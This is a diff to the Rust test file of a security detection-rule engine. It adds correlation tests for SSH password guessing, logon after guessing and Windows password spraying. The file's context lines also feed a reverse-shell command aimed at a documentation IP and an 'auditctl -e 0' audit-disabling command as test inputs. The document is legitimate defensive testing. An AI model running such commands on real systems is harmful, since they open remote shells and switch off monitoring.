@@ -2,7 +2,8 @@
 
 use crate::support::{event, starter_rules, sysmon, windows};
 use casemate_detect::Rules;
-use casemate_event::{Event, Format};
+use casemate_event::{Event, EventId, Format, Stored, field};
+use jiff::{SignedDuration, Timestamp};
 use std::collections::BTreeSet;
 use std::sync::Mutex;
 
@@ -27,6 +28,25 @@ impl Table {
     fn pair(&self, name: &str, matching: &Event, other: &Event) {
         self.check(name, matching, true);
         self.check(name, other, false);
+    }
+}
+
+impl Table {
+    /// As [`pair`](Self::pair), with events a second apart.
+    fn series(&self, name: &str, matching: &[&Event], other: &[&Event]) {
+        for (events, expected) in [(matching, true), (other, false)] {
+            let mut correlator = self.rules.correlator();
+            let found = (1..).zip(events).any(|(id, event)| {
+                let mut event = (*event).clone();
+                event.time = Timestamp::UNIX_EPOCH + SignedDuration::from_secs(id);
+                let stored = Stored { id: EventId(id as u64), event };
+                let matched = self.rules.matches(&stored.event);
+                let fired = correlator.observe(&self.rules, &stored, &matched);
+                fired.iter().any(|one| one.rule.path.file_stem().is_some_and(|stem| stem == name))
+            });
+            assert_eq!(found, expected, "{name}");
+        }
+        self.matched.lock().unwrap().insert(name.to_owned());
     }
 }
 
@@ -66,6 +86,7 @@ fn every_rule_matches_what_it_should() {
     linux(&table);
     network(&table);
     cloud(&table);
+    correlations(&table);
     let matched = table.matched.into_inner().unwrap();
     let untested: Vec<_> = table
         .rules
@@ -357,6 +378,38 @@ fn linux(t: &Table) {
     };
     t.pair("reverse_shell_command", &joined("sh -i >& /dev/tcp/203.0.113.5/443"), &joined("true"));
     t.pair("audit_switched_off", &execve("auditctl", "-e", "0"), &execve("auditctl", "-l", "x"));
+    t.pair(
+        "ssh_logon_accepted",
+        &log("sshd", "Accepted publickey for ann from 10.0.0.1 port 5 ssh2"),
+        &log("sshd", "Failed password for ann from 10.0.0.1 port 5 ssh2"),
+    );
+}
+
+fn correlations(t: &Table) {
+    let ssh = |verb: &str, address: &str| {
+        let mut event = log("sshd", &format!("{verb} password for ann from {address} port 5 ssh2"));
+        event.fields.set(field::SRC_IP, address);
+        event
+    };
+    let (failed, other, accepted) =
+        (ssh("Failed", "10.0.0.1"), ssh("Failed", "10.0.0.2"), ssh("Accepted", "10.0.0.1"));
+    let guessed = vec![&failed; 10];
+    let spread = [vec![&failed; 9], vec![&other; 9]].concat();
+    t.series("ssh_passwords_guessed", &guessed, &spread);
+    t.series(
+        "ssh_logon_after_guessing",
+        &[guessed.clone(), vec![&accepted]].concat(),
+        &[vec![&failed; 9], vec![&accepted], vec![&failed]].concat(),
+    );
+    let logon = |account: usize, address: &str| {
+        let account = format!("user{account}");
+        let native = [("TargetUserName", account.as_str()), ("IpAddress", address)];
+        windows("Security", 4625, &native)
+    };
+    let sprayed: Vec<Event> = (0..8).map(|account| logon(account, "10.0.0.9")).collect();
+    let alike: Vec<Event> = (0..20).map(|number| logon(number % 7, "10.0.0.9")).collect();
+    t.series("passwords_sprayed", &sprayed.iter().collect::<Vec<_>>(), &alike.iter().collect::<Vec<_>>());
+    t.pair("logon_failed_from_address", &sprayed[0], &logon(1, "-"));
 }
 
 fn network(t: &Table) {
